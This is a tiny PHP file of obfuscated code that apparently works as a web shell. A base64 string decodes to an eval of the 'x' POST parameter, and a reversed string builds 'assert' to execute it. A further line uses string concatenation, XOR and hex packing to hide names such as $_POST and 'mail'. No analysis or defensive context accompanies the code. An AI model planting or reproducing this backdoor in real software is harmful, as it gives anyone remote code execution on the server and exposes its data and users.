<?php
$x = "ZXZhbCgkX1BPU1RbJ3gnXSk7";
$f = strrev("tressa");
$f(base64_decode($x));
${"_PO"."ST"}[1]; echo chr(101).chr(118) ^ "\x01\x02"; pack("H*", "6d61696c");
